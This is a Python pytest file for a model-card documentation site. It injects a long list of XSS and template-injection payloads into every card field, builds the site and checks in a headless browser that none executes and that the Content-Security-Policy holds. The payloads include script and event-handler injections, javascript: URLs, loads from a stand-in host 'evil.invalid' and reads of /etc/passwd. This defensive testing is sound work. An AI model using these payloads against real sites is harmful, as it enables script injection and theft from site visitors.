"""Nothing that stands in a card runs in a reader's browser: escaping holds by itself, and the policy of the theme holds too."""

from __future__ import annotations

import base64
import copy
import hashlib
import re
import shutil
from collections.abc import Iterator
from typing import TYPE_CHECKING, Any

import pytest
import yaml
from built_site import arrive
from conftest import ROOT, TINY, needs_chromium

from scripts.benchmarks.search import serving
from scripts.cards.problems import Problem
from scripts.cards.yaml_reader import read_yaml
from scripts.pages.numbers import AT_ONCE
from scripts.project import Project
from scripts.site.build import build
from scripts.site.gather import checked_library, gather
from scripts.site.render import render

if TYPE_CHECKING:
    from playwright.sync_api import Browser

RUNS = "window.pwned=1"
PAYLOADS = [
    f"<script>{RUNS}</script>", f"<SCRIPT>{RUNS}</SCRIPT>", f"<scr<script>ipt>{RUNS}</script>", f"</p><script>{RUNS}</script>",
    f"</title><script>{RUNS}</script>", f"</textarea><script>{RUNS}</script>", f"</style><script>{RUNS}</script>",
    f"</script><script>{RUNS}</script>", f"--><script>{RUNS}</script>", f"]]><script>{RUNS}</script>",
    "<script src=//evil.invalid/x.js></script>", f"<script type=module>{RUNS}</script>", f"<img src=x onerror={RUNS}>",
    f'"><img src=x onerror={RUNS}>', f"'><img src=x onerror={RUNS}>", f"`><img src=x onerror={RUNS}>",
    f'" onmouseover="{RUNS}', f"' onmouseover='{RUNS}", f'" autofocus onfocus="{RUNS}', f"x onload={RUNS}",
    f"<svg onload={RUNS}>", f"<svg/onload={RUNS}>", f"<svg><script>{RUNS}</script></svg>",
    f"<svg><animate onbegin={RUNS} attributeName=x dur=1s>", f"<svg><a xlink:href=javascript:{RUNS}>x</a></svg>",
    f"<math><mi//xlink:href=javascript:{RUNS}>x", f"<body onload={RUNS}>", f"<iframe src=javascript:{RUNS}>",
    '<iframe srcdoc="<script>parent.pwned=1</script>">', f"<object data=javascript:{RUNS}>", f"<embed src=javascript:{RUNS}>",
    f"<details open ontoggle={RUNS}>", f"<video><source onerror={RUNS}>", f"<audio src=x onerror={RUNS}>",
    f"<input autofocus onfocus={RUNS}>", f"<marquee onstart={RUNS}>", f"<a href=javascript:{RUNS}>x</a>",
    f"<form action=javascript:{RUNS}><button>x</button></form>", "<base href=//evil.invalid/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUNS}'>", "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<link rel=stylesheet href=//evil.invalid/x.css>", "<style>@import '//evil.invalid/x.css'</style>",
    f"<style onload={RUNS}></style>", f"<!--[if IE]><script>{RUNS}</script><![endif]-->", f"<?xml?><script>{RUNS}</script>",
    f"[x](javascript:{RUNS})", f"[x](JaVaScRiPt:{RUNS})", f"[x](javascript&colon;{RUNS})", f"[x](&#106;avascript:{RUNS})",
    "[x](data:text/html;base64,PHNjcmlwdD4=)", f"[x](vbscript:{RUNS})", "[x](//evil.invalid/x)", f"![x](javascript:{RUNS})",
    f"![x](x \"onerror={RUNS}\")", f"<javascript:{RUNS}>", f"[x]: javascript:{RUNS}", f"[x](x){{: onclick={RUNS} }}",
    f"# x {{: onclick={RUNS} }}", f"{{{{ {RUNS} }}}}", "{{ 7*7 }}", "{{ config.items() }}", "{% include '/etc/passwd' %}",
    "{{ ''.__class__.__mro__ }}", "${7*7}", "<%= 7*7 %>", "#{7*7}", f"```\n<script>{RUNS}</script>\n```",
    f"`<img src=x onerror={RUNS}>`", f"$\\text{{<img src=x onerror={RUNS}>}}$", f"$\\href{{javascript:{RUNS}}}{{x}}$",
    f"<<script>{RUNS}//<</script>", f"%3Cscript%3E{RUNS}%3C/script%3E", f"&lt;script&gt;{RUNS}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUNS}&#62;", f"\\<script>{RUNS}</script>", "--8<-- \"/etc/passwd\"", "::: os.system",
    f"<div markdown=1><script>{RUNS}</script></div>", f"??? note \"<img src=x onerror={RUNS}>\"", "wzxhzdk:0",
    "../../../../etc/passwd",
]  # fmt: skip


def leaves(value: Any, where: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The place of every text of a card."""
    children = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, child in children:
        yield from leaves(child, (*where, key))
    if isinstance(value, str):
        yield where


FULL_CARD = yaml.safe_load((TINY / "model_cards/alpha.yml").read_text("utf-8")) | {
    "limitations": [{"text": "It is slow.", "source": {"reference": "alpha2020", "where": "page 3"}}],
    "notes": [{"text": "A remark.", "source": {"reference": "alpha2020", "where": "page 4"}}],
    "confused_with": ["Another thing."],
    "succeeded_by": [{"name": "Gamma", "change": "Better.", "reference": "alpha2020"}],
    "also_called": ["Alfa"],
    "checkpoints": {
        "base": {
            "name": "Alpha-B",
            "system": "base/main",
            "task": "object detection",
            "release": "official",
            "load": {"library": "timm", "class": "create_model", "name": "alpha_base", "least": "1.0"},
            "input": {"size": "224 x 224", "channels": "RGB"},
            "output": "boxes",
            "form": "xyxy in pixels",
            "source": {"reference": "alpha2020", "where": "README"},
        }
    },
}
for assertion in (*(claim["shown"] for claim in FULL_CARD["pros"][:2]), FULL_CARD["cons"][0]["shown"]):
    assertion["result"] = f"alpha/{assertion['result']}"  # the cards that are made of this one have no example
FULL_CARD["pros"][1]["reported"] = {"number": "base/AP", "above": 1}  # so that the conditions may be anything
FULL_CARD["cons"][1]["cannot_show"] = "More data."
FULL_CARD["licences"]["note"] = "Mind it."
FULL_CARD["licences"]["releases"] = [
    {"name": "official", "code": "MIT", "weights": "MIT", "source": {"reference": "alpha2020", "where": "LICENSE"}}
]
FULL_CARD["tables"]["other"] = {
    "source": "alpha2020",
    "where": "page 9",
    "independent": {"by": "A lab", "how": "One protocol.", "when": "2026-01"},
}
FULL_CARD["variants"]["base"]["numbers"]["other"] = {"AP": 39.0}
FULL_CARD["tables"]["main"]["note"] = "A note."
FULL_CARD["variants"]["base"]["numbers"]["main"]["note"] = "A row's note."
FULL_CARD["variants"]["base"]["numbers"]["main"]["where"] = "row 3"
FULL_CARD["references"]["alpha2020"] |= {
    "doi": "10.1000/1",
    "url": "https://example.org/",
    "code": "https://example.org/c",
}


def errors_of(project: Project, slug: str) -> list[Problem]:
    _, problems = checked_library(project, {})
    return [p for p in problems if p.severity == "error" and p.path.endswith(f"/{slug}.yml")]


def put(card: Any, where: tuple[Any, ...], text: str) -> Any:
    """A copy of the card with one text in another's place."""
    made = copy.deepcopy(card)
    here = made
    for part in where[:-1]:
        here = here[part]
    here[where[-1]] = text
    return made


def write_card(project: Project, slug: str, card: Any) -> None:
    text = yaml.safe_dump(card, allow_unicode=True, sort_keys=False, default_flow_style=False, width=10**6)
    (project.cards / f"{slug}.yml").write_text(text, "utf-8")


@pytest.fixture
def hostile(tiny: Project) -> Project:
    """The tiny project with one card per payload, which stands in every text that the check lets it stand in."""
    probe = Project(tiny.root.parent / "probe")
    probe.cards.mkdir(parents=True)
    shutil.copytree(tiny.examples, probe.examples)
    for name in ("_vocabulary.yml", "beta.yml", "alpha.yml"):
        (probe.cards / name).write_bytes((tiny.cards / name).read_bytes())
    for i, payload in enumerate(PAYLOADS):
        places = [where for where in leaves(FULL_CARD) if where[-1] not in ("reference", "source", "paper")]
        card = FULL_CARD
        for where in places:  # one text at a time, where its form allows it
            card = put(card, where, payload)
        write_card(probe, "probe", card)
        for _ in range(6):  # what is refused goes back to what it was
            found = errors_of(probe, "probe")
            if not found:
                break
            card = mend(probe, card, found)
            write_card(probe, "probe", card)
        assert not errors_of(probe, "probe"), (payload, errors_of(probe, "probe"))
        write_card(tiny, f"p{i:02d}", card)
    for i in range(AT_ONCE):  # so many share the benchmark of the first one that it has a page of its own
        shutil.copy(tiny.cards / "p00.yml", tiny.cards / f"q{i:02d}.yml")
    return tiny


def mend(project: Project, card: Any, problems: list[Problem]) -> Any:
    """Put back what stands at the places of the problems, or in the line of each."""
    _, positions = read_yaml((project.cards / "probe.yml").read_text("utf-8"), "probe.yml")
    lines = {problem.line for problem in problems}
    starts = {where: line for where, (line, _) in positions.items()}
    for where in leaves(FULL_CARD):
        if any(starts.get(where[: i + 1]) in lines for i in range(len(where))):
            original = FULL_CARD
            for part in where:
                original = original[part]
            card = put(card, where, original)
    return card


@pytest.mark.slow
@needs_chromium
def test_no_payload_in_any_text_of_a_card_runs_even_without_a_policy(hostile: Project, browser: Browser) -> None:
    """The theme's override is not there, so that escaping alone has to hold."""
    assert len(PAYLOADS) >= 60
    held = [sum(p in path.read_text("utf-8") for p in ("pwned",)) for path in hostile.cards.glob("p*.yml")]
    assert sum(held) >= 50, "most payloads stand in a card"
    shutil.copytree(
        ROOT / "docs/assets", hostile.docs / "assets"
    )  # the scripts of pages put texts of cards into them, too
    knowledge = gather(hostile)
    render(hostile, knowledge)
    assert build(hostile)
    context = browser.new_context()
    foreign: list[str] = []
    dialogs: list[str] = []
    with serving(hostile.site) as address:
        context.route(
            lambda url: not url.startswith((address, "data:", "blob:")),
            lambda route: (foreign.append(route.request.url), route.abort()),
        )
        page = context.new_page()
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        names = [f"models/p{i:02d}/" for i in range(len(PAYLOADS))]
        slugs = ",".join(f"p{i:02d}" for i in range(4))
        benchmarks = [f"numbers/{path.parent.name}/" for path in (hostile.site / "numbers").glob("*/index.html")]
        assert benchmarks
        pages = [
            "",
            "models/",
            "tasks/",
            "numbers/",
            *benchmarks,
            "glossary/",
            "choose/",
            "choose/?task=graph",
            f"compare/?m={slugs}",
        ]
        for name in [*pages, "evidence/", "lineage/", "licensing/", "charts/", "downloads/", *names]:
            page.goto(address + name, wait_until="load")
            seen = page.evaluate(ACTIVE)
            assert seen == {"pwned": False, "active": [], "title": seen["title"]}, (name, seen)
            assert "49" not in seen["title"]
        arrive(page, address)
        page.keyboard.press("/")
        page.keyboard.type("pwned script", delay=30)  # the theme listens to keys, so that filling in is not enough
        page.locator(".md-search-result__link").first.wait_for(timeout=30_000)
        seen = page.evaluate(ACTIVE)
        assert (seen["pwned"], seen["active"]) == (False, []), "in the results of the search"
    context.close()
    assert (foreign, dialogs) == ([], [])


ACTIVE = """() => {
    const active = [];
    for (const node of document.querySelectorAll("*")) {
        for (const {name, value} of node.attributes) {
            if (/^on/i.test(name)) active.push(node.outerHTML.slice(0, 200));
            if (/^(href|src|action|data|srcdoc|xlink:href)$/i.test(name) && /^\\s*(javascript|vbscript|data:text)/i.test(value))
                active.push(node.outerHTML.slice(0, 200));
        }
        if (/^(iframe|object|embed|base|marquee)$/i.test(node.tagName)) active.push(node.outerHTML.slice(0, 200));
        if (node.tagName == "SCRIPT" && /pwned|evil/.test(node.src + (node.type.includes("json") ? "" : node.text)))
            active.push(node.outerHTML.slice(0, 200));
    }
    return {pwned: "pwned" in window, active, title: document.title};
}"""


@pytest.mark.slow
def test_the_policy_allows_the_scripts_of_the_theme_and_no_other(guarded: Project) -> None:
    allowed = set(re.findall(r"[\w+/]{43}=", (ROOT / "overrides/main.html").read_text("utf-8")))
    for path in guarded.site.rglob("*.html"):
        text = path.read_text("utf-8")
        head = text[:1024]
        assert '<meta charset="utf-8">' in head, "the encoding has to stand in the first kilobyte"
        assert text.index("Content-Security-Policy") < text.index("<script")
        inline = re.findall(r"<script>(.*?)</script>", text, re.DOTALL)
        hashes = {base64.b64encode(hashlib.sha256(code.encode()).digest()).decode() for code in inline}
        assert hashes <= allowed, f"{path.name}: allow it in overrides/main.html"
        assert "unsafe-eval" not in text


@needs_chromium
def test_the_policy_stops_what_escaping_would_let_through(guarded: Project, browser: Browser) -> None:
    page_file = guarded.site / "models/alpha/index.html"
    injected = f"<script>{RUNS}</script>"
    injected += f"<img src=x onerror={RUNS}><a id=bad href='javascript:{RUNS}'>x</a>"
    injected += "<script src=//evil.invalid/x.js></script>"
    page_file.write_text(page_file.read_text("utf-8").replace("<article", injected + "<article", 1))
    context = browser.new_context()
    refused: list[str] = []
    with serving(guarded.site) as address:
        page = context.new_page()
        page.on("console", lambda message: refused.append(message.text) if message.type == "error" else None)
        page.goto(address + "models/alpha/", wait_until="load")
        page.locator("#bad").click()
        assert page.evaluate("'pwned' in window") is False
        assert page.evaluate("typeof __md_get") == "function", "the theme's own script runs"
    context.close()
    assert sum("Content Security Policy" in text for text in refused) >= 3
